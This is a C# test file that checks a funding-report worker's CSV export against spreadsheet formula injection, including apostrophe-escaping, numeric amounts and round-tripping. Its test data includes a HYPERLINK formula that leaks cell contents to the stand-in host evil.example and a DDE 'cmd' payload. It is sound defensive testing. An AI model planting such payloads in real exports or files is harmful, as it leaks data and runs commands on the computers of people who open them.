using System.Globalization;
using System.Text;
using CsvHelper;
using OssFunding.Core.Allocations;
using OssFunding.Reports.OffChain;
using OssFunding.Reports.Publishing;
using OssFunding.Reports.Rendering;
using OssFunding.Reports.Tests.Support;
using OssFunding.TestSupport;

namespace OssFunding.Reports.Tests.Csv;

/// <summary>
/// Issue 15 item 1 (SPEC §11): no cell of a CSV the worker writes starts a spreadsheet formula; amounts stay plain
/// numbers a spreadsheet can add up, a negative one included; our own reader gets back exactly the ledger's text.
/// </summary>
[Collection(ReportsCollection.Name)]
public sealed class SpreadsheetSafeCsvTests(ReportsWorld world)
{
    private const string HostileProject = "=HYPERLINK(\"http://evil.example/?\"&A1;\"click\")";
    private const string HostileMemo = "+cmd|' /C calc'!A0";
    private const string HostileId = "2025-01-hostile";

    [Theory]
    [InlineData(HostileProject, "'" + HostileProject)]
    [InlineData(HostileMemo, "'" + HostileMemo)]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\t=1", "'\t=1")]
    [InlineData("\r=1", "'\r=1")]
    [InlineData("'quoted", "''quoted")]
    [InlineData("'=1", "''=1")]
    [InlineData("FFmpeg", "FFmpeg")]
    [InlineData("https://forum.example/t/1", "https://forum.example/t/1")]
    [InlineData("a=b", "a=b")]
    [InlineData("", "")]
    [InlineData("4000", "4000")]
    [InlineData("0.000000000000000001", "0.000000000000000001")]
    [InlineData("-2.25", "-2.25")]
    [InlineData("-0.5", "-0.5")]
    public void A_cell_that_would_start_a_formula_gets_a_leading_apostrophe_and_reads_back(string ledger, string written)
    {
        Assert.Equal(written, SpreadsheetCsv.Neutralise(ledger));
        Assert.Equal(ledger, SpreadsheetCsv.Restore(written));
    }

    [Fact]
    public async Task Hostile_names_and_references_come_out_of_the_report_commands_as_text_and_amounts_as_numbers()
    {
        await using var host = await world.StartHostAsync();
        await ImportHostileAllocationAsync(host);
        // A reserve cap below what is allocated: the budget line's remaining amount is negative and must stay a number.
        var lowCap = new Dictionary<string, string> { ["Budget__Cycles__0__Caps__reserve__LPT"] = "5" };

        var monthly = await WorkerCli.RunAsync(host, world, lowCap, "report", "2025-01", "--format", "csv");
        Assert.True(monthly.ExitCode == 0, monthly.Stderr);
        var cells = RawCells(monthly.Stdout);
        AssertNoCellStartsAFormula(cells);
        var offChain = Assert.Single(cells, row => row["allocation_id"] == HostileId);
        Assert.Equal(("offchain_payment", "'" + HostileProject, "'" + HostileMemo, "3.5"),
            (offChain["record"], offChain["project"], offChain["reference"], offChain["amount"]));
        var reserve = Assert.Single(cells, row => row["record"] == "budget" && row["category"] == "reserve");
        Assert.Equal(("5", "10.75", "-5.75"), (reserve["cap"], reserve["allocated"], reserve["remaining"]));

        // Our reader gives back the ledger's text, so the CSV still round-trips.
        var parsed = ReportCsv.Read(monthly.Stdout);
        Assert.Equal((HostileProject, HostileMemo), (parsed.Single(r => r.AllocationId == HostileId).Project, parsed.Single(r => r.AllocationId == HostileId).Reference));

        var annual = await WorkerCli.RunAsync(host, world, null, "annual-report", "2025", "--format", "csv");
        Assert.True(annual.ExitCode == 0, annual.Stderr);
        var annualCells = RawCells(annual.Stdout);
        AssertNoCellStartsAFormula(annualCells);
        var project = Assert.Single(annualCells, row => row["record"] == "project" && row["project"] == "'" + HostileProject);
        Assert.Equal(("3.5", "1"), (project["paid_off_chain"], project["payments"]));
    }

    [Fact]
    public async Task Rendered_csv_round_trips_with_hostile_text_in_every_writer()
    {
        await using var host = await world.StartHostAsync();
        await ImportHostileAllocationAsync(host);
        var reports = host.Get<ReportService>();
        var month = await reports.MonthlyAsync(ReportPeriod.Parse("2025-01"), CancellationToken.None);
        var monthlyCsv = ReportRenderer.Render(month, ReportFormat.Csv);
        var annualCsv = ReportRenderer.Render(await reports.AnnualAsync("2025", CancellationToken.None), ReportFormat.Csv);

        // The world's pending row holds a right-to-left override, which the CSV shows escaped (MonthlyReportTests).
        Assert.Equal(ReportCsv.Rows(month).Where(r => r.Record != "pending"), ReportCsv.Read(monthlyCsv).Where(r => r.Record != "pending"));
        AssertNoCellStartsAFormula(RawCells(monthlyCsv));
        AssertNoCellStartsAFormula(RawCells(annualCsv));
        // Only the CSV marks the text: the report itself holds the ledger's name.
        Assert.Equal(HostileProject, month.OffChainPayments.Single(p => p.AllocationId == HostileId).Project);
    }

    private static async Task ImportHostileAllocationAsync(ReportsHost host)
    {
        var csv = new StringBuilder("id,period,project,category,recipient,token,amount,approval_ref,memo\n")
            .Append(CultureInfo.InvariantCulture, $"{HostileId},2025-01,\"{HostileProject.Replace("\"", "\"\"", StringComparison.Ordinal)}\",reserve,")
            .Append(CultureInfo.InvariantCulture, $"{TestAddresses.Recipient(94)},LPT,3.5,https://forum.example/t/hostile,\"{HostileMemo}\"\n")
            .ToString();
        var imported = await host.Get<IAllocationImporter>().ImportAsync(new MemoryStream(Encoding.UTF8.GetBytes(csv)), ImportFormat.Csv, false, CancellationToken.None);
        Assert.True(imported.Succeeded, string.Join("; ", imported.Errors));
        var recorded = await host.Get<OffChainPayments>().RecordAsync(
            new OffChainPaymentRequest(HostileId, HostileMemo, "https://bank.example/statements/hostile", "2025-01-16"), CancellationToken.None);
        Assert.Equal(OffChainResult.Recorded, recorded.Result);
    }

    /// <summary>The cells as a spreadsheet sees them: RFC 4180 parsing only, none of our un-escaping.</summary>
    private static List<Dictionary<string, string>> RawCells(string csv)
    {
        using var reader = new CsvReader(new StringReader(csv), CultureInfo.InvariantCulture);
        reader.Read();
        reader.ReadHeader();
        var header = reader.HeaderRecord!;
        var rows = new List<Dictionary<string, string>>();
        while (reader.Read())
        {
            rows.Add(header.ToDictionary(name => name, name => reader.GetField(name)!, StringComparer.Ordinal));
        }

        return rows;
    }

    private static void AssertNoCellStartsAFormula(List<Dictionary<string, string>> rows)
    {
        Assert.NotEmpty(rows);
        foreach (var (column, cell) in rows.SelectMany(row => row))
        {
            bool formulaStart = cell.Length > 0 && "=+-@\t\r".Contains(cell[0], StringComparison.Ordinal);
            bool plainNumber = decimal.TryParse(cell, NumberStyles.AllowLeadingSign | NumberStyles.AllowDecimalPoint, CultureInfo.InvariantCulture, out _);
            Assert.False(formulaStart && !plainNumber, $"{column} starts a formula: {cell}");
        }
    }
}
